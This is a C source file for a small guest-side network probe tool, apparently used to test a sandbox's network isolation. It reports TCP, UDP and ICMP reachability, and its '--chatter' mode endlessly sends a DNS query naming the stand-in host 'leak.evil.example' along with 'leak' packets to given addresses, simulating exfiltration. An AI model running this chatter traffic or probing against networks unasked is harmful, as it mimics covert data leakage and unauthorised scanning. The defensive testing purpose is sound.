/*
 * A guest's network programs in one, for images that have none. Built static.
 *
 *   guest-probe [--quiet MS] PROBE...  KIND,ADDRESS,PORT,HEX: all at once, one answer line each, in order.
 *                                      Waits 10 s for answers, or until there was none for MS
 *   guest-probe --chatter ADDRESS...   sends to the addresses without end, from a new port each time
 *
 * Kinds: tcp (connects, sends HEX, wants an answer), udp, icmp. Answers:
 *   tcp   open TEXT (first line of the answer) | cut (connected, then reset or ended unanswered) |
 *         refused | unreachable | timeout
 *   udp   answer HEX | refused | unreachable | timeout
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { MAX_PROBES = 128, MAX_BYTES = 2048, LIMIT_MS = 10000, CHATTER_MS = 40 };

struct probe {
  int fd;
  int is_tcp;
  int connected;
  size_t length;
  unsigned char bytes[MAX_BYTES];
  char answer[2 * MAX_BYTES + 16];
};

static struct probe probes[MAX_PROBES];

static long now_ms(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

static void finish(struct probe *p, const char *answer) {
  snprintf(p->answer, sizeof p->answer, "%s", answer);
  close(p->fd);
  p->fd = -1;
}

static void fail(struct probe *p, int error) {
  if (p->is_tcp && p->connected) finish(p, "cut");
  else if (error == ECONNREFUSED || error == ECONNRESET) finish(p, "refused");
  else finish(p, "unreachable");
}

static size_t from_hex(const char *hex, unsigned char *out) {
  size_t n = 0;
  unsigned value;
  while (n < MAX_BYTES && sscanf(hex + 2 * n, "%2x", &value) == 1) out[n++] = (unsigned char)value;
  return n;
}

static void start(struct probe *p, char *text) {
  char *kind = strtok(text, ","), *address = strtok(NULL, ","), *port = strtok(NULL, ","), *hex = strtok(NULL, ",");
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(port ? port : "0"))};
  if (!kind || !address || inet_pton(AF_INET, address, &to.sin_addr) != 1) exit(2);
  p->is_tcp = !strcmp(kind, "tcp");
  p->length = hex ? from_hex(hex, p->bytes) : 0;
  if (!strcmp(kind, "icmp")) {
    struct icmphdr echo = {.type = ICMP_ECHO, .un.echo = {.id = htons(7), .sequence = htons(1)}};
    echo.checksum = (unsigned short)~(ICMP_ECHO + htons(7) + htons(1));
    memcpy(p->bytes, &echo, p->length = sizeof echo);
    p->fd = socket(AF_INET, SOCK_RAW | SOCK_NONBLOCK, IPPROTO_ICMP);
  } else {
    p->fd = socket(AF_INET, (p->is_tcp ? SOCK_STREAM : SOCK_DGRAM) | SOCK_NONBLOCK, 0);
  }
  if (p->fd < 0) exit(3);
  if (connect(p->fd, (struct sockaddr *)&to, sizeof to) < 0 && errno != EINPROGRESS) {
    fail(p, errno);
    return;
  }
  if (!p->is_tcp && send(p->fd, p->bytes, p->length, 0) < 0) fail(p, errno);
}

static void readable(struct probe *p) {
  unsigned char in[MAX_BYTES];
  ssize_t n = recv(p->fd, in, sizeof in - 1, 0);
  if (n < 0) {
    if (errno != EAGAIN) fail(p, errno);
    return;
  }
  if (p->is_tcp) {
    if (n == 0) {
      finish(p, "cut");
      return;
    }
    in[n] = 0;
    char text[MAX_BYTES + 16];
    snprintf(text, sizeof text, "open %.*s", (int)strcspn((char *)in, "\r\n"), in);
    finish(p, text);
    return;
  }
  char text[2 * MAX_BYTES + 16] = "answer ";
  for (ssize_t i = 0; i < n; i++) sprintf(text + 7 + 2 * i, "%02x", in[i]);
  finish(p, text);
}

static void writable(struct probe *p) {
  int error = 0;
  socklen_t size = sizeof error;
  getsockopt(p->fd, SOL_SOCKET, SO_ERROR, &error, &size);
  if (error) {
    fail(p, error);
    return;
  }
  p->connected = 1;
  if (p->length && send(p->fd, p->bytes, p->length, MSG_NOSIGNAL) < 0) fail(p, errno);
}

static void chatter(char **addresses) {
  /* A question for leak.evil.example, whose answer nobody waits for. */
  static const char question[] = "\0\1\1\0\0\1\0\0\0\0\0\0\4leak\4evil\7example\0\0\1\0\1";
  for (;;) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(53)};
    inet_pton(AF_INET, "169.254.0.22", &to.sin_addr);
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    if (fd >= 0) {
      (void)!sendto(fd, question, sizeof question - 1, 0, (struct sockaddr *)&to, sizeof to);
      close(fd);
    }
    for (char **address = addresses; *address; address++) {
      to.sin_port = htons(7000);
      inet_pton(AF_INET, *address, &to.sin_addr);
      if ((fd = socket(AF_INET, SOCK_DGRAM, 0)) >= 0) {
        (void)!sendto(fd, "leak", 4, 0, (struct sockaddr *)&to, sizeof to);
        close(fd);
      }
      if ((fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0)) >= 0) {
        (void)!connect(fd, (struct sockaddr *)&to, sizeof to);
        close(fd);
      }
    }
    usleep(CHATTER_MS * 1000);
  }
}

int main(int argc, char **argv) {
  if (argc > 2 && !strcmp(argv[1], "--chatter")) chatter(argv + 2);
  long quiet = LIMIT_MS;
  if (argc > 2 && !strcmp(argv[1], "--quiet")) {
    quiet = atol(argv[2]);
    argv += 2;
    argc -= 2;
  }
  int count = argc - 1;
  if (count < 1 || count > MAX_PROBES) return 2;
  for (int i = 0; i < count; i++) start(&probes[i], argv[i + 1]);
  long last = now_ms();
  for (long end = last + LIMIT_MS; now_ms() < end && now_ms() < last + quiet;) {
    struct pollfd fds[MAX_PROBES];
    int open = 0;
    for (int i = 0; i < count; i++) {
      struct probe *p = &probes[i];
      fds[i] = (struct pollfd){.fd = p->fd, .events = (short)(POLLIN | (p->is_tcp && !p->connected ? POLLOUT : 0))};
      open += p->fd >= 0;
    }
    if (open == 0) break;
    if (poll(fds, (nfds_t)count, 50) < 0 && errno != EINTR) return 3;
    for (int i = 0; i < count; i++) {
      struct probe *p = &probes[i];
      if (p->fd < 0 || fds[i].revents == 0) continue;
      last = now_ms();
      if (p->is_tcp && !p->connected) writable(p);
      else readable(p);
    }
  }
  for (int i = 0; i < count; i++) puts(probes[i].fd < 0 ? probes[i].answer : "timeout");
  return 0;
}
